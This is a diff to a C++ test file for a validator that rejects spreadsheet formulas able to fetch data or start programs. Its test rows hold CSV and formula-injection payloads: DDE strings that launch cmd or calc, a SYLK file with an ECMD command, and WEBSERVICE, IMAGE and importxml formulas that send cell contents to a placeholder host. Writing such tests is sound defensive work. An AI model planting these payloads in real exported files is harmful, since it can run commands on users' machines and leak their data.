@@ -43,6 +43,8 @@ TEST_CASE("formulas that fetch or start something are refused where formulas onl
       {"a command behind the other delimiter", "a,b;=cmd|' /C calc'!A0\n", "dynamic_data_exchange", 4},
       {"a second formula", "=1+1\n=MSEXCEL|'\\..\\cmd.exe'!''\n", "dynamic_data_exchange", 5},
       {"a function for DDE", "=DDE(\"cmd\";\"/C calc\";\"x\")\n", "dynamic_data_exchange", 0},
+      {"a symbolic link file", "ID;PWXL;N;E\r\nC;X1;Y1;K0;ECMD|calc!A0\r\nE\r\n", "type_mismatch", 0},
+      {"a table that begins like one", "ID;Price;Name\n1;2;K\n", ""},
       {"a web service", "=WEBSERVICE(\"http://x/\"&A1)\n", "external_reference", 0},
       {"a picture from the web", "=IMAGE(\"http://x/\"&A1)\n", "external_reference", 0},
       {"a feed", "=importxml(CONCAT(\"http://x/\",A1),\"//a\")\n", "external_reference", 0},
